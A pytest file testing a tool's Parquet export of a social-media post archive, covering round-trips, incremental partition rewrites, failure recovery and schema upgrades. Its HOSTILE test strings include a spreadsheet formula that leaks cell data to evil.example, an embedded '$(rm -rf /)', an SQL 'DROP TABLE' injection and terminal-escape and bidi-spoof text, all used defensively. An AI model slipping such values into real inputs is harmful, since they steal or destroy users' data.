"""`export --format parquet -o DIR`: a dataset DuckDB reads as it is, equal row for row to the archive,
brought up to date by rewriting exactly the partitions whose rows changed. All through the CLI."""

from __future__ import annotations

import json
import os
import re
import shutil
import sqlite3
import subprocess
import sys
from pathlib import Path

import duckdb
import pyarrow.dataset
import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner
from seeded_archive import Timeline

from plnfilter.cli import cli
from plnfilter.export import to_parquet
from plnfilter.post import Post
from plnfilter.store import Judged, open_archive, save_page, update_judgements
from plnfilter.store.dataset import DATASET_COLUMNS, VERDICT_COLUMNS
from plnfilter.times import parse_iso

ROOT = Path(__file__).resolve().parent.parent
NOW = "2026-11-28T12:00:00Z"
LATER = "2026-11-29T12:00:00Z"
LISTS = {"tags", "links", "mentions", "media_alt", "reposted_by", "matched"}
FLAGS = {"author_bot", "has_media", "sensitive", "author_opt_out", "kept"}
TIMES = {"created_at", "first_seen", "last_seen"}
HOSTILE = {
    "nul": "before\x00after",
    "bidi": "invoice\u202egnp.exe \u2066isolated\u2069 \u200fmark",
    "ansi": "\x1b[31mRED\x1b[0m \x1b]0;pwned\x07",
    "lines": "a\r\nb\u2028c\u2029d\x85e",
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "quotes": "'\"\\ \\n `$(rm -rf /)` '); DROP TABLE posts; --",
    "astral": "\U0001f600\U00010348 e\u0301 \ufeffbom",
    "surrogate": "lone \ud800 high",
    "long": "A" * 300_000,
}
TIMELINE = Timeline("file:parquet-test", "mastodon", "parquet-test")


def plnfilter(*args):
    return CliRunner().invoke(cli, [str(a) for a in args])


def post(uid: str, network: str, created_at: str, **fields) -> Post:
    if network == "bluesky":
        uri, url = f"at://did:plc:test/app.bsky.feed.post/{uid}", f"https://bsky.app/profile/t/post/{uid}"
    else:
        uri, url = f"https://edu.example/users/kate/statuses/{uid}", f"https://edu.example/@kate/{uid}"
    base = {"author": "kate@edu.example", "text": f"post {uid}", "likes": 1}
    return Post(uri=uri, network=network, url=url, created_at=created_at, **{**base, **fields})


def save(db_path: Path, judged: list[Judged], now: str = NOW) -> None:
    db = open_archive(db_path)
    save_page(db, TIMELINE, judged, None, now)
    db.conn.close()


def first_posts() -> list[Judged]:
    """Four months over two networks, a post without a date, hostile text, lists and flags, a post
    only followers may see, an author who opted out, a post an exclude rule dropped."""
    posts = [
        Judged(
            post("901", "mastodon", "2026-09-03T08:00:00Z", tags=("edtech", "pln")), True, 2.5, ("topics",)
        ),
        Judged(
            post("902", "mastodon", "2026-09-30T23:59:59Z", links=("https://oer.example/a",)),
            False,
            0.0,
            (),
            "giveaways",
        ),
        Judged(
            post("1001", "mastodon", "2026-10-01T00:00:00Z", author_bot=True, likes=7), True, 1.25, ("a", "b")
        ),
        Judged(
            post(
                "1002",
                "mastodon",
                "2026-10-15T10:30:00Z",
                has_media=True,
                media_alt=("a chart",),
                visibility="followers",
            ),
            True,
            0.5,
        ),
        Judged(
            post("b1", "bluesky", "2026-10-20T10:00:00Z", mentions=("ana.bsky.social",), author_opt_out=True),
            True,
            3.0,
            ("x",),
        ),
        Judged(post("b2", "bluesky", "2026-11-02T10:00:00Z", sensitive=True, spoiler="cw"), False, 0.0),
        Judged(post("nodate", "mastodon", "", text="a post whose server gave no date"), True, 0.1),
    ]
    for name, text in HOSTILE.items():
        hostile = post(
            f"h-{name}",
            "mastodon",
            "2026-10-05T12:00:00Z",
            text=text,
            author_name=text[:200],
            tags=(text[:50], "ok"),
            card_title=text[:100],
            reposted_by=(text[:30],),
        )
        posts.append(Judged(hostile, True, 1.0, (text[:20],)))
    return posts


@pytest.fixture
def archive(tmp_path) -> Path:
    db = tmp_path / "archive.db"
    save(db, first_posts())
    return db


def export(db: Path, out: Path, *flags: str) -> None:
    result = plnfilter("export", "--db", db, "--format", "parquet", "-o", out, *flags)
    assert result.exit_code == 0, result.output
    assert result.stdout == ""


def month_of(created_at: str) -> str | None:
    return created_at[:7] if re.match(r"\d{4}-[01]\d-", created_at) else None


def epoch_us(text: str | None) -> int | None:
    return None if not text else int(parse_iso(text).timestamp()) * 1_000_000


def archive_rows(db: Path, where: str = "1", filter_name: str = "default") -> list[dict]:
    """What the dataset must hold, read with sqlite3 itself: the stored values decoded by hand, the
    verdict columns those of the filter `filter_name` (what `save` writes under: `default`)."""
    conn = sqlite3.connect(db)
    names = ", ".join(DATASET_COLUMNS)
    rows = []
    sql = (
        f"SELECT network, {names} FROM posts LEFT JOIN verdicts "  # noqa: S608
        f'ON verdicts.post_id = posts.id AND verdicts."filter" = ? WHERE {where}'
    )
    for values in conn.execute(sql, [filter_name]):
        row = dict(zip(("network", *DATASET_COLUMNS), values, strict=True))
        row["month"] = month_of(row["created_at"])
        for name in DATASET_COLUMNS:
            if row[name] is None and name in VERDICT_COLUMNS:  # a post the filter has not judged
                row[name] = [] if name in LISTS else None  # the dataset's empty list, as for any list
                continue
            if name in LISTS:
                row[name] = json.loads(row[name])
            elif name in FLAGS:
                row[name] = bool(row[name])
            elif name in TIMES:
                row[name] = epoch_us(row[name])
        rows.append(row)
    conn.close()
    return sorted(rows, key=lambda r: r["uri"])


def dataset_rows(out: Path) -> list[dict]:
    """The dataset as DuckDB reads it, with the query the README gives (times as epoch microseconds)."""
    times = ", ".join(f"epoch_us({name}) AS {name}" for name in sorted(TIMES))
    found = duckdb.sql(
        f"SELECT * REPLACE ({times}) FROM read_parquet('{out}/**/*.parquet', hive_partitioning = true)"  # noqa: S608
    )
    names = found.columns
    return sorted((dict(zip(names, row, strict=True)) for row in found.fetchall()), key=lambda r: r["uri"])


def part_files(out: Path) -> dict[str, tuple[int, int]]:
    """Each partition's data file: (inode, mtime in ns), to tell a rewritten file from one left alone."""
    return {
        str(path.parent.relative_to(out)): (path.stat().st_ino, path.stat().st_mtime_ns)
        for path in out.glob("network=*/month=*/*.parquet")
    }


def manifest(out: Path) -> dict:
    return json.loads((out / "_plnfilter.json").read_text(encoding="utf-8"))


def export_filling_the_disk(db: Path, out: Path, monkeypatch) -> int:
    """An export whose second partition fails as a full disk makes it fail: exit 1 with the reason,
    no traceback. Returns how many batches it converted; the real converter is put back."""
    real = to_parquet.to_record_batch
    calls = []

    def fill_the_disk(rows, schema):
        calls.append(1)
        if len(calls) == 2:
            raise OSError(28, "No space left on device")
        return real(rows, schema)

    monkeypatch.setattr(to_parquet, "to_record_batch", fill_the_disk)
    try:
        result = plnfilter("export", "--db", db, "--all", "--format", "parquet", "-o", out)
    finally:
        monkeypatch.setattr(to_parquet, "to_record_batch", real)
    assert result.exit_code == 1 and "No space left on device" in result.stderr
    assert "Traceback" not in result.output
    return len(calls)


def test_the_dataset_equals_the_archive_row_for_row(archive, tmp_path):
    out = tmp_path / "dataset"
    export(archive, out, "--all")
    assert sorted(part_files(out)) == [
        "network=bluesky/month=2026-10",
        "network=bluesky/month=2026-11",
        "network=mastodon/month=2026-09",
        "network=mastodon/month=2026-10",
        "network=mastodon/month=__HIVE_DEFAULT_PARTITION__",
    ]
    rows = dataset_rows(out)
    assert rows == archive_rows(archive)
    assert {(r["network"], r["month"]) for r in rows if r["uri"].endswith("/nodate")} == {("mastodon", None)}
    # another engine's hive reader (pyarrow's, as Spark reads folders) finds the same rows
    table = pyarrow.dataset.dataset(out, format="parquet", partitioning="hive").to_table()
    assert sorted(table.column("uri").to_pylist()) == [r["uri"] for r in rows]
    assert sorted(p.name for p in out.iterdir()) == ["_plnfilter.json", "_plnfilter.lock"] + sorted(
        {f"network={r['network']}" for r in rows}
    )


def test_hostile_text_round_trips_byte_for_byte(archive, tmp_path):
    out = tmp_path / "dataset"
    export(archive, out, "--all")
    stored = {r["uri"]: r for r in archive_rows(archive, "uri LIKE '%/h-%'")}
    read = {r["uri"]: r for r in dataset_rows(out) if r["uri"] in stored}
    assert len(read) == len(HOSTILE)
    for uri, row in stored.items():
        for name in ("text", "author_name", "card_title"):
            assert read[uri][name].encode("utf-8") == row[name].encode("utf-8"), (uri, name)
        for name in ("tags", "reposted_by", "matched"):
            assert [v.encode("utf-8") for v in read[uri][name]] == [v.encode("utf-8") for v in row[name]]
    texts = {r["text"] for r in read.values()}
    assert HOSTILE["nul"] in texts and HOSTILE["long"] in texts and HOSTILE["lines"] in texts
    assert "lone \ufffd high" in texts  # the archive stores a lone surrogate as U+FFFD; so does the dataset


def test_schema_is_the_one_the_readme_documents(archive, tmp_path):
    out = tmp_path / "dataset"
    export(archive, out, "--all")
    described = duckdb.sql(
        f"DESCRIBE SELECT * FROM read_parquet('{out}/**/*.parquet', hive_partitioning = true)"  # noqa: S608
    ).fetchall()
    read = {name: kind for name, kind, *_ in described}
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    section = readme.split("## When one machine is not enough", 1)[1].split("\n## ", 1)[0]
    documented = dict(re.findall(r"^\| `(\w+)` \| `([A-Z][A-Z ]*(?:\[\])?)` \|", section, re.MULTILINE))
    assert documented == read
    assert list(read)[: len(DATASET_COLUMNS)] == list(DATASET_COLUMNS)
    # Parquet's own types, as Spark and BigQuery see them: UTC instants in microseconds, standard lists
    schema = pq.ParquetFile(next(out.glob("network=*/month=*/*.parquet"))).schema
    created = json.loads(schema.column(DATASET_COLUMNS.index("created_at")).logical_type.to_json())
    assert (created["Type"], created["isAdjustedToUTC"], created["timeUnit"]) == (
        "Timestamp",
        True,
        "microseconds",
    )
    assert schema.column(DATASET_COLUMNS.index("tags")).path == "tags.list.element"


def test_re_export_rewrites_exactly_the_partitions_that_changed(archive, tmp_path):
    out = tmp_path / "dataset"
    export(archive, out, "--all")
    first = part_files(out)

    export(archive, out, "--all")  # nothing changed: nothing rewritten
    assert part_files(out) == first
    assert manifest(out)["last_export"]["written"] == []

    # new posts (2026-11 on Mastodon, a month new to the dataset), a refreshed count (bluesky 2026-10),
    save(archive, [Judged(post("1101", "mastodon", "2026-11-20T09:00:00Z"), True, 1.0)], LATER)
    save(archive, [Judged(post("b1", "bluesky", "2026-10-20T10:00:00Z", likes=99), True, 3.0, ("x",))], LATER)
    # a new verdict (bluesky 2026-11), and pruned posts: all of mastodon 2026-09, one of mastodon 2026-10
    db = open_archive(archive)
    assert update_judgements(db, [(post("b2", "bluesky", "").uri, True, 4.5, ("late-rule",))]) == 1
    db.conn.close()
    conn = sqlite3.connect(archive)
    with conn:
        conn.execute("DELETE FROM posts WHERE created_at LIKE '2026-09-%' OR uri LIKE '%/statuses/1002'")
    conn.close()

    export(archive, out, "--all")
    now = part_files(out)
    changed = {
        "network=mastodon/month=2026-11",
        "network=bluesky/month=2026-10",
        "network=bluesky/month=2026-11",
        "network=mastodon/month=2026-10",
    }
    assert set(now) == changed | {"network=mastodon/month=__HIVE_DEFAULT_PARTITION__"}
    for path in changed - {"network=mastodon/month=2026-11"}:
        assert now[path] != first[path], f"{path} changed but was not rewritten"
    assert (
        now["network=mastodon/month=__HIVE_DEFAULT_PARTITION__"]
        == first["network=mastodon/month=__HIVE_DEFAULT_PARTITION__"]
    )
    assert not (out / "network=mastodon" / "month=2026-09").exists()
    last = manifest(out)["last_export"]
    assert sorted(last["written"]) == sorted(changed)
    assert last["removed"] == ["network=mastodon/month=2026-09"] and last["unchanged"] == 1
    rows = dataset_rows(out)
    assert rows == archive_rows(archive)
    by_uri = {r["uri"]: r for r in rows}
    assert by_uri[post("b1", "bluesky", "").uri]["likes"] == 99
    assert by_uri[post("b2", "bluesky", "").uri]["matched"] == ["late-rule"]
    assert len(rows) == len(first_posts()) - 3 + 1  # 901, 902 and 1002 pruned, 1101 new


def test_a_run_on_a_file_source_then_a_prune_are_followed(archive, tmp_path):
    """New posts from `plnfilter run` (the bundled samples, through file sources), then the run's
    month pruned down to its kept posts: the dataset follows both and touches nothing else.

    The dataset holds the verdicts of the filter `default` (the one `save` writes): the run's filter,
    `demo`, judges every post under its own name, which changes nothing this dataset holds."""
    out = tmp_path / "dataset"
    export(archive, out, "--all")
    first = part_files(out)
    result = plnfilter("run", ROOT / "filters" / "demo.yaml", "--db", archive, "--quiet")
    assert result.exit_code == 0, result.output
    refused = plnfilter("export", "--db", archive, "--format", "parquet", "-o", out, "--all")
    assert refused.exit_code == 2 and "default, demo" in refused.output  # two filters: name one
    export(archive, out, "--all", "--filter", "default")
    grown = part_files(out)
    assert len(dataset_rows(out)) > len(first_posts()) + 100
    assert dataset_rows(out) == archive_rows(archive)
    new = set(grown) - set(first)
    assert new == {"network=mastodon/month=2026-11"}
    assert grown["network=bluesky/month=2026-11"] != first["network=bluesky/month=2026-11"]
    assert all(grown[path] == first[path] for path in first if "2026-11" not in path)

    conn = sqlite3.connect(archive)
    with conn:
        conn.execute(
            "DELETE FROM posts WHERE created_at >= '2026-11-' "
            "AND id IN (SELECT post_id FROM verdicts WHERE \"filter\" = 'demo' AND kept = 0)"
        )
    conn.close()
    export(archive, out, "--all", "--filter", "default")
    assert dataset_rows(out) == archive_rows(archive)
    assert all(part_files(out)[path] == first[path] for path in first if "2026-11" not in path)


def test_re_export_after_plnfilter_prune_replaces_exactly_the_partitions_that_lost_rows(archive, tmp_path):
    out = tmp_path / "dataset"
    export(archive, out, "--all")
    first = part_files(out)

    pruned = plnfilter("prune", "--db", archive, "--before", "2026-10-10", "--quiet")  # 902: nobody keeps it
    assert pruned.exit_code == 0, pruned.output
    export(archive, out, "--all")
    last = manifest(out)["last_export"]
    assert (last["written"], last["removed"]) == (["network=mastodon/month=2026-09"], [])
    now = part_files(out)
    assert now["network=mastodon/month=2026-09"] != first["network=mastodon/month=2026-09"]
    assert {p: f for p, f in now.items() if "2026-09" not in p} == {
        p: f for p, f in first.items() if "2026-09" not in p
    }
    assert dataset_rows(out) == archive_rows(archive)

    # --all takes the kept ones too: 901 (all that was left of 2026-09) and 1001 (2026-10)
    pruned = plnfilter("prune", "--db", archive, "--before", "2026-10-02", "--all", "--quiet")
    assert pruned.exit_code == 0, pruned.output
    export(archive, out, "--all")
    last = manifest(out)["last_export"]
    assert (last["written"], last["removed"]) == (
        ["network=mastodon/month=2026-10"],
        ["network=mastodon/month=2026-09"],
    )
    after = part_files(out)
    assert after["network=mastodon/month=2026-10"] != now["network=mastodon/month=2026-10"]
    untouched = set(first) - {"network=mastodon/month=2026-09", "network=mastodon/month=2026-10"}
    assert {p: after[p] for p in untouched} == {p: first[p] for p in untouched}
    rows = dataset_rows(out)
    assert rows == archive_rows(archive)
    assert len(rows) == len(first_posts()) - 3


def test_selection_flags_choose_the_rows_and_a_new_selection_replaces_the_old(archive, tmp_path):
    out = tmp_path / "dataset"
    export(archive, out)  # like every export: the kept posts unless --all or --dropped
    assert dataset_rows(out) == archive_rows(archive, "kept = 1")
    assert not (out / "network=bluesky" / "month=2026-11").exists()  # its one post was dropped
    export(archive, out, "--all", "--network", "bluesky")
    assert dataset_rows(out) == archive_rows(archive, "network = 'bluesky'")
    assert not (out / "network=mastodon").exists()
    export(archive, out, "--all", "--tag", "EdTech", "--since", "2026-09-01", "--until", "2026-10-01")
    assert [r["uri"] for r in dataset_rows(out)] == [post("901", "mastodon", "").uri]
    export(archive, out, "--dropped")
    assert dataset_rows(out) == archive_rows(archive, "kept = 0")


def test_a_failed_export_leaves_every_partition_whole(archive, tmp_path, monkeypatch):
    """The disk fills while the second changed partition is written: the first is new, the second
    still the old file, no temp file is left where a reader looks, and the next export completes."""
    out = tmp_path / "dataset"
    export(archive, out, "--all")
    before = dataset_rows(out)
    conn = sqlite3.connect(archive)
    with conn:
        conn.execute("UPDATE posts SET likes = likes + 1000")
    conn.close()
    export_filling_the_disk(archive, out, monkeypatch)
    assert not list(out.rglob("*.tmp"))
    after = {r["uri"]: r for r in dataset_rows(out)}
    assert sorted(after) == [r["uri"] for r in before]  # every post once: none lost, none twice
    bumped = {r["network"] + str(r["month"]) for r in after.values() if r["likes"] >= 1000}
    assert len(bumped) == 1  # exactly the partition written before the failure
    (out / "network=bluesky" / "month=2026-10" / ".part-99999.tmp").write_bytes(b"killed mid-write")
    export(archive, out, "--all")
    assert dataset_rows(out) == archive_rows(archive)
    assert not list(out.rglob("*.tmp"))


def test_what_parquet_export_refuses(archive, tmp_path):
    def refused(*args):
        return plnfilter("export", "--db", archive, "--format", "parquet", *args)

    result = refused()
    assert result.exit_code == 2 and "-o DIR" in result.stderr
    result = refused("-o", tmp_path / "d", "--limit", "5")
    assert result.exit_code == 2 and "--limit does not apply to parquet" in result.stderr
    result = refused("-o", tmp_path / "d", "--columns", "uri,text")
    assert result.exit_code == 2 and "--columns does not apply to parquet" in result.stderr
    (tmp_path / "file").write_text("x")
    result = refused("-o", tmp_path / "file")
    assert result.exit_code == 2 and "a Parquet dataset is a folder" in result.stderr
    mine = tmp_path / "photos"
    mine.mkdir()
    (mine / "holiday.jpg").write_bytes(b"jpeg")
    result = refused("-o", mine)
    assert result.exit_code == 2 and "not a plnfilter dataset" in result.stderr
    assert sorted(p.name for p in mine.iterdir()) == ["holiday.jpg"]
    assert not (tmp_path / "d").exists()
    # the extension names the format, as for every other export
    result = plnfilter("export", "--db", archive, "--all", "-o", tmp_path / "pln.parquet")
    assert result.exit_code == 0, result.output
    assert len(dataset_rows(tmp_path / "pln.parquet")) == len(first_posts())


def test_without_pyarrow_the_message_says_what_to_install(archive, tmp_path, monkeypatch):
    monkeypatch.setitem(sys.modules, "pyarrow", None)  # `import pyarrow` now raises ImportError
    monkeypatch.setitem(sys.modules, "pyarrow.parquet", None)
    result = plnfilter("export", "--db", archive, "--format", "parquet", "-o", tmp_path / "d")
    assert result.exit_code == 1
    assert "pip install 'plnfilter[parquet]'" in result.stderr and "Traceback" not in result.output
    assert not (tmp_path / "d").exists()


@pytest.mark.parametrize("args", [("--help",), ("export", "--format", "jsonl")], ids=["help", "export jsonl"])
def test_other_commands_never_import_pyarrow(archive, args):
    probe = (
        "import sys, runpy\n"
        "sys.argv = ['plnfilter', *sys.argv[1:]]\n"
        "try:\n    runpy.run_module('plnfilter', run_name='__main__')\n"
        "except SystemExit as exit:\n    assert not exit.code, exit.code\n"
        "print(sorted({m.split('.')[0] for m in sys.modules} & {'pyarrow', 'duckdb'}), file=sys.stderr)\n"
    )
    extra = ("--db", str(archive)) if args[0] == "export" else ()
    result = subprocess.run(
        [sys.executable, "-c", probe, *args, *extra],
        capture_output=True,
        text=True,
        env={**os.environ, "PLNFILTER_HOME": str(archive.parent / "home")},
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip()
    assert result.stderr.strip().splitlines()[-1] == "[]"


def test_damaged_or_old_cells_are_read_as_the_other_exports_read_them(archive, tmp_path):
    """Cells plnfilter never writes (hand edits, older archives): a list that is not JSON or not a
    list is empty, a count that is not a number is NULL, a time in another form is still that time."""
    conn = sqlite3.connect(archive)
    with conn:
        conn.execute(
            "UPDATE posts SET tags = 'not json', links = '{\"a\": 1}', likes = 'many', "
            "created_at = '2026-10-05 14:00:00', first_seen = 'yesterday', last_seen = '2026-11-28T13:00:00+01:00' "
            "WHERE uri LIKE '%/statuses/1001'"
        )
    conn.close()
    out = tmp_path / "dataset"
    export(archive, out, "--all")
    row = next(r for r in dataset_rows(out) if r["uri"].endswith("/statuses/1001"))
    assert (row["tags"], row["links"], row["likes"], row["first_seen"]) == ([], [], None, None)
    assert row["created_at"] == epoch_us("2026-10-05T14:00:00Z") and row["month"] == "2026-10"
    assert row["last_seen"] == epoch_us("2026-11-28T12:00:00Z")
    assert row["mentions"] == [] and row["kept"] is True  # the other cells of the row are intact
    export_jsonl = plnfilter("export", "--db", archive, "--all", "--format", "jsonl")
    line = next(json.loads(x) for x in export_jsonl.stdout.splitlines() if "/statuses/1001" in x)
    assert (line["tags"], line["links"]) == (row["tags"], row["links"])


def test_a_run_writing_during_the_export_is_left_for_the_next_one(archive, tmp_path, monkeypatch):
    """The partitions and their rows are read from one moment of the archive: a post a run saves
    while the export writes is in neither the files nor the manifest, and the next export adds it."""
    from plnfilter.store import dataset

    out = tmp_path / "dataset"
    before = archive_rows(archive)
    real = dataset.ArchiveDataset.batches
    saved = []

    def batches_while_a_run_saves(self, partition):
        if not saved:
            save(archive, [Judged(post("1102", "mastodon", "2026-10-30T09:00:00Z"), True, 1.0)], LATER)
            saved.append(partition)
        return real(self, partition)

    monkeypatch.setattr(dataset.ArchiveDataset, "batches", batches_while_a_run_saves)
    export(archive, out, "--all")
    assert saved and dataset_rows(out) == before
    counts = {path: entry["rows"] for path, entry in manifest(out)["partitions"].items()}
    assert counts["network=mastodon/month=2026-10"] == sum(
        1 for r in before if (r["network"], r["month"]) == ("mastodon", "2026-10")
    )
    export(archive, out, "--all")
    assert dataset_rows(out) == archive_rows(archive) != before
    assert manifest(out)["last_export"]["written"] == ["network=mastodon/month=2026-10"]


def test_one_export_at_a_time_and_an_older_layout_is_rewritten_whole(archive, tmp_path):
    from filelock import FileLock

    out = tmp_path / "dataset"
    export(archive, out, "--all")
    first = part_files(out)
    with FileLock(str(out / "_plnfilter.lock")):
        result = plnfilter("export", "--db", archive, "--all", "--format", "parquet", "-o", out)
    assert result.exit_code == 75 and "another export is writing the dataset" in result.stderr
    assert part_files(out) == first
    old = manifest(out)
    old["schema_version"] = 0  # a dataset an earlier plnfilter wrote with another schema
    (out / "_plnfilter.json").write_text(json.dumps(old), encoding="utf-8")
    export(archive, out, "--all")
    assert all(part_files(out)[path] != first[path] for path in first)
    assert manifest(out)["schema_version"] == to_parquet.SCHEMA_VERSION


def test_who_may_see_a_post_and_why_it_was_dropped_are_columns_as_in_csv_and_json(archive, tmp_path):
    """The dataset is data, like CSV and JSON: every post, with the columns to leave some out. The
    publishing rule is for pages (html, atom, markdown), so a followers-only post and an opted-out
    author are in it without --include-private."""
    out = tmp_path / "dataset"
    export(archive, out, "--all")
    read = {r["uri"]: r for r in dataset_rows(out)}
    lines = plnfilter("export", "--db", archive, "--all", "--format", "jsonl").stdout.split("\n")
    exported = {row["uri"]: row for row in map(json.loads, filter(None, lines))}  # text holds U+2028
    assert sorted(read) == sorted(exported)
    columns = ("visibility", "author_opt_out", "kept", "score", "matched", "dropped_by")
    for uri, row in exported.items():
        assert {c: read[uri][c] for c in columns} == {c: row[c] for c in columns}, uri
    assert read[post("1002", "mastodon", "").uri]["visibility"] == "followers"
    assert read[post("b1", "bluesky", "").uri]["author_opt_out"] is True
    assert read[post("902", "mastodon", "").uri]["dropped_by"] == "giveaways"
    public = duckdb.sql(
        f"SELECT count(*) FROM read_parquet('{out}/**/*.parquet', hive_partitioning = true) "  # noqa: S608
        "WHERE visibility IN ('public', 'unlisted') AND NOT author_opt_out"
    ).fetchone()[0]
    assert public == len(read) - 2


def schemas(out: Path) -> set[tuple[str, ...]]:
    """The column names of each data file, as a set: one element when the dataset has one schema."""
    return {tuple(pq.read_schema(path).names) for path in out.glob("network=*/month=*/*.parquet")}


OLD_DATASETS = sorted((ROOT / "tests" / "fixtures" / "parquet").glob("schema-*"))


def old_dataset(fixture: Path, tmp_path: Path) -> tuple[Path, Path]:
    """A copy of a dataset an earlier schema version wrote (tests/fixtures/parquet/README.md) and a
    copy of the archive it was written from, brought up to today's schema."""
    out, db = tmp_path / "dataset", tmp_path / "schema-009.db"
    shutil.copytree(fixture, out)
    shutil.copy(ROOT / "tests" / "fixtures" / "archives" / "schema-009.db", db)
    open_archive(db).conn.close()
    assert manifest(out)["schema_version"] == int(fixture.name.split("-")[1]) < to_parquet.SCHEMA_VERSION
    assert schemas(out) != {DATASET_COLUMNS}
    return out, db


def test_a_dataset_of_each_earlier_schema_is_kept_as_a_fixture():
    assert [p.name for p in OLD_DATASETS] == [f"schema-{n}" for n in range(1, to_parquet.SCHEMA_VERSION)]


@pytest.mark.parametrize("fixture", OLD_DATASETS, ids=lambda p: p.name)
def test_a_dataset_of_an_earlier_schema_is_rewritten_whole(fixture, tmp_path):
    out, db = old_dataset(fixture, tmp_path)
    first = part_files(out)
    export(db, out, "--all")
    assert set(part_files(out)) == set(first)
    assert all(part_files(out)[path] != first[path] for path in first)
    assert schemas(out) == {DATASET_COLUMNS}
    assert dataset_rows(out) == archive_rows(db, filter_name="fixture")
    assert manifest(out)["schema_version"] == to_parquet.SCHEMA_VERSION
    assert sorted(manifest(out)["last_export"]["written"]) == sorted(first)
    export(db, out, "--all")  # and from then on, as any dataset: nothing changed, nothing rewritten
    assert manifest(out)["last_export"]["written"] == []


@pytest.mark.parametrize("fixture", OLD_DATASETS, ids=lambda p: p.name)
def test_a_failed_rewrite_of_an_earlier_schema_leaves_it_whole(fixture, tmp_path, monkeypatch):
    """No partition of the new schema lands before all of them are written: a reader of a dataset
    whose rewrite failed half way still reads one schema (DuckDB would drop the newer columns)."""
    out, db = old_dataset(fixture, tmp_path)
    first, before = part_files(out), dataset_rows(out)
    assert export_filling_the_disk(db, out, monkeypatch) == 2  # one partition written in full first
    assert part_files(out) == first and dataset_rows(out) == before
    assert len(schemas(out)) == 1 and not list(out.rglob("*.tmp"))
    assert manifest(out)["schema_version"] < to_parquet.SCHEMA_VERSION
    export(db, out, "--all")
    assert schemas(out) == {DATASET_COLUMNS}
    assert dataset_rows(out) == archive_rows(db, filter_name="fixture")
